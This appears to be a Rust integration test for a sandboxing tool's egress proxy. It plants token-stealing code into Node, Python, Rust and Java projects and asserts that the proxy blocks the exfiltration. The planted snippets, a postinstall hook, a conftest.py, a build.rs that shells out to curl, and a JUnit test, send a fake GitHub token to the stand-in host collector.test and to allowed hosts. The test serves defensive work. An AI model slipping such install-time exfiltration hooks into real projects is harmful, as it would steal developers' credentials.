//! Four projects that nobody here wrote, each of another language: `init`, `render`, `run`, and their own install, build
//! and tests pass with the hosts that init found and no other, while what was planted in each gets nothing out.
//!
//! Archives, lock files and a mirror of what they depend on are fetched by `scripts/setup --tests` (`tests/foreign`).

use super::{
    harness::{self, run},
    internet::{Another, NETWORK, subnet},
    project::{Project, made_up},
};
use fs_err as fs;
use std::path::{Path, PathBuf};

/// Nobody in the image.
const OWNER: u32 = 1001;
/// What a person's image has on its own.
const PATH: &str = "set -eu; export PATH=/opt/node/bin:/opt/clients/bin:/opt/rust/bin:$PATH";
const ELSEWHERE: &str = "collector.test";

/// A project, and what a thief hid in it.
struct Foreign {
    kind: &'static str,
    /// Its own commands.
    commands: &'static str,
    /// What they say when its tests passed.
    passed: &'static str,
    /// The file that is planted, with `HOST`, `ELSEWHERE` and `TOKEN`. It sends the token to another host, and to an
    /// allowed one in a body and in a URL.
    planted: (&'static str, &'static str),
    /// What makes the project run it: a file, what stands there, and what instead.
    hook: Option<(&'static str, &'static str, &'static str)>,
}

fn fetched(kind: &str) -> PathBuf {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/test-images/foreign").join(kind);
    assert!(folder.is_dir(), "{} is missing: run scripts/setup --tests", folder.display());
    folder
}

fn works_and_keeps_its_secret(foreign: &Foreign) {
    if !harness::available() {
        return;
    }
    let fetched = fetched(foreign.kind);
    let mut hosts: Vec<String> = fs::read_dir(fetched.join("mirror"))
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    hosts.sort();
    let project = Project::new(&format!("foreign-{}", foreign.kind), "");
    let folder = project.folder();
    fs::remove_file(folder.join("bottle.yaml")).unwrap();
    let here = |script: &str| run(project.command("sh").args(["-euc", script]).env("FROM", &fetched)).ok();
    here("cp -r \"$FROM/project/.\" .");
    fs::write(folder.join("Dockerfile"), "FROM bottle-test-claude:1\n").unwrap();
    let token = made_up("ghp_");
    let (file, text) = foreign.planted;
    let text = text.replace("HOST", &hosts[0]).replace("ELSEWHERE", ELSEWHERE).replace("TOKEN", &token);
    fs::write(folder.join(file), text).unwrap();
    if let Some((file, before, instead)) = foreign.hook {
        let text = fs::read_to_string(folder.join(file)).unwrap();
        assert!(text.contains(before), "{file}: {text}");
        fs::write(folder.join(file), text.replacen(before, instead, 1)).unwrap();
    }
    here(&format!("git init --quiet && chown -R {OWNER}:{OWNER} ."));

    let home = folder.parent().unwrap().join("home");
    fs::create_dir(&home).unwrap();
    let mut init = project.command(env!("CARGO_BIN_EXE_bottle"));
    init.args(["init", "--yes", "--agent", "shell"]).env("HOME", &home);
    run(init.env("CARGO_HOME", fetched.join("cargo-home"))).ok();
    // The hosts, all of them and no other. A test's own addresses, as for an intranet.
    let mut manifest = fs::read_to_string(folder.join("bottle.yaml")).unwrap();
    let mut found: Vec<&str> = manifest
        .lines()
        .filter_map(|line| line.strip_prefix("    - host: ")?.split_whitespace().next())
        .collect();
    found.sort_unstable();
    assert_eq!(found, hosts, "{manifest}");
    manifest = manifest
        .replace("\nname: project\n", &format!("\nname: {}\n", project.name))
        .replace("      methods: ", &format!("      addresses: [{}]\n      methods: ", subnet()));
    manifest.push_str("\negress: { network: ");
    manifest.push_str(NETWORK);
    manifest.push_str(" }\npipelock: { extra_ca: ./ca.pem }\n");
    fs::write(folder.join("bottle.yaml"), manifest).unwrap();
    let names: Vec<&str> = hosts.iter().map(String::as_str).collect();
    let mirror =
        Another::of_files(&format!("bottle-test-mirror-{}", foreign.kind), &fetched.join("mirror"), &names);

    let stack = project.render();
    let script = format!("{PATH}; {}", foreign.commands);
    let worked = stack.project.bottle(&["run", "--", "bash", "-c", &script]).ok();
    assert!(worked.text().contains(foreign.passed), "{}", worked.text());

    let denied = stack.project.bottle(&["logs", "--denied", "--no-follow", "--json"]).ok().out;
    let asked: Vec<&str> = denied.lines().filter(|line| !line.trim().is_empty()).collect();
    assert!(asked.iter().any(|line| line.contains(ELSEWHERE)), "{denied}\n{}", worked.text());
    assert!(asked.iter().any(|line| line.contains("method_not_allowed")), "{denied}");
    assert!(asked.iter().any(|line| line.contains("dlp") || line.contains("secret")), "{denied}");
    assert_eq!(asked.len(), 3, "more was refused than what was planted: {denied}");
    let log = mirror.log();
    assert!(log.contains("\"request\""), "nothing was fetched: {log}");
    assert!(!log.contains(&token) && !log.contains("POST"), "the secret got out");
    assert!(!denied.contains(&token), "a record has the secret");
}

#[test]
fn a_node_app() {
    works_and_keeps_its_secret(&Foreign {
        kind: "node",
        commands: "npm ci && npm test",
        passed: "# pass  37",
        planted: (
            "collect.js",
            "const token = 'TOKEN';
const send = (url, options) => fetch(url, options).then((answer) => answer.status, (error) => String(error));
(async () => {
  console.log(await send('https://ELSEWHERE/', { method: 'POST', body: token }));
  console.log(await send('https://HOST/', { method: 'POST', body: token }));
  console.log(await send('https://HOST/' + token));
})();
",
        ),
        hook: Some((
            "package.json",
            "\"scripts\": {",
            "\"scripts\": { \"postinstall\": \"node collect.js\",",
        )),
    });
}

#[test]
fn a_python_package() {
    works_and_keeps_its_secret(&Foreign {
        kind: "python",
        commands: "python3 -m venv ~/venv && ~/venv/bin/pip install --quiet -r requirements/tests.txt -e . && ~/venv/bin/pytest",
        passed: " passed",
        planted: (
            "tests/conftest.py",
            "import urllib.request
token = 'TOKEN'
for url, body in [('https://ELSEWHERE/', token), ('https://HOST/', token), ('https://HOST/' + token, None)]:
    try:
        urllib.request.urlopen(url, body and body.encode()).close()
    except OSError as error:
        print(error)
",
        ),
        hook: None,
    });
}

#[test]
fn a_rust_crate() {
    works_and_keeps_its_secret(&Foreign {
        kind: "rust",
        commands: "cargo test --locked",
        passed: "test result: ok. 50 passed",
        planted: (
            "build.rs",
            "fn main() {
    let token = \"TOKEN\";
    let last = format!(\"https://HOST/{token}\");
    for sent in [&[\"https://ELSEWHERE/\", \"--data\", token][..], &[\"https://HOST/\", \"--data\", token], &[&last]] {
        let _ = std::process::Command::new(\"curl\").arg(\"--silent\").args(sent).output();
    }
}
",
        ),
        hook: Some(("Cargo.toml", "build = false", "build = \"build.rs\"")),
    });
}

#[test]
fn a_java_library() {
    works_and_keeps_its_secret(&Foreign {
        kind: "java",
        commands: "mvn --batch-mode --no-transfer-progress test",
        passed: "BUILD SUCCESS",
        planted: (
            "src/test/java/org/apache/neethi/CollectTest.java",
            "package org.apache.neethi;
public class CollectTest extends junit.framework.TestCase {
    public void testAll() throws Exception {
        String token = \"TOKEN\";
        send(\"https://ELSEWHERE/\", token);
        send(\"https://HOST/\", token);
        send(\"https://HOST/\" + token, null);
    }
    private static void send(String url, String body) throws Exception {
        java.net.HttpURLConnection to = (java.net.HttpURLConnection) new java.net.URL(url).openConnection();
        try {
            if (body != null) {
                to.setDoOutput(true);
                to.getOutputStream().write(body.getBytes());
            }
            System.out.println(to.getResponseCode());
        } catch (java.io.IOException error) {
            System.out.println(error);
        }
    }
}
",
        ),
        hook: None,
    });
}
